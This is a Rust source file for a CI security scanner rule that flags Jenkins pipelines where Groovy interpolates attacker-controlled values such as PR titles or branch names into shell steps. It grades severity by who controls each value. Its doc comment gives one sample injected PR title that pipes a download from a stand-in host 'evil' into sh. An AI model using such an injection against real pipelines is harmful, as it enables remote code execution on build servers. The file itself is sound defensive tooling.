//! `jenkins/script-injection`: a value someone outside the pipeline controls (CHANGE_TITLE,
//! CHANGE_BRANCH, GHPRB/GitLab MR variables, commit messages, … or a local variable assigned
//! from one) is interpolated by Groovy into a sh/bat/powershell script: a PR titled
//! `x"; curl evil | sh; "` runs that command. Through the environment (`sh 'echo "$CHANGE_TITLE"'`)
//! it is data, not code. Severity and confidence follow who controls the value (see
//! `../sources.rs`): the PR's author as free text is high; a vetted value (an e-mail address, a
//! GHPRB-accepted comment, `GIT_BRANCH`) medium; branch and tag names of the origin (pushers)
//! and values the SCM restricts to safe characters low. One finding per interpolation.
//! Generic Webhook Trigger variables are `jenkins/webhook-injection`'s.

use crate::analyzers::Output;
use crate::analyzers::jenkins::model::{Doc, Model, Taint};
use crate::analyzers::rule::declare_rule;
use crate::finding::RawFinding;
use crate::rules::RuleId;

declare_rule!(RuleId::JenkinsScriptInjection, check);

/// The strongest non-webhook source among an interpolation's references.
pub(crate) fn strongest<'a>(
    m: &Model,
    refs: &'a [(String, std::ops::Range<usize>)],
    webhook: bool,
) -> Option<(&'a str, &'a std::ops::Range<usize>, Taint)> {
    let mut best: Option<(&str, &std::ops::Range<usize>, Taint)> = None;
    for (path, span) in refs {
        let Some(t) = m.source(path) else { continue };
        if t.webhook.is_some() != webhook {
            continue;
        }
        if best.as_ref().is_none_or(|b| t.control > b.2.control) {
            best = Some((path.as_str(), span, t));
        }
    }
    best
}

pub fn check(doc: &Doc<'_>, m: &Model, out: &mut Output) {
    for step in &m.steps {
        for interp in &step.interpolated {
            let Some((path, span, t)) = strongest(m, &interp.refs, false) else {
                continue;
            };
            let what = if t.origin == path {
                format!("`{}`", crate::analyzers::jenkins::model::var_name(path))
            } else {
                format!("`{path}` (from {})", t.origin)
            };
            out.push(
                RawFinding::new(
                    ID,
                    doc.file,
                    doc.range(span),
                    format!(
                        "{what} is interpolated by Groovy into a `{}` script, and its value is set by {}: it can inject shell commands; pass it through the environment and single-quote the script",
                        step.step,
                        t.control.who()
                    ),
                )
                .related(doc.file, doc.range(&step.call_span), format!("`{}` step", step.step))
                .severity(t.control.severity())
                .content(format!("{} {path}", step.step))
                .property("variable", crate::analyzers::jenkins::model::var_name(path))
                .property("source", t.origin.clone())
                .property("confidence", t.control.confidence()),
            );
        }
    }
}
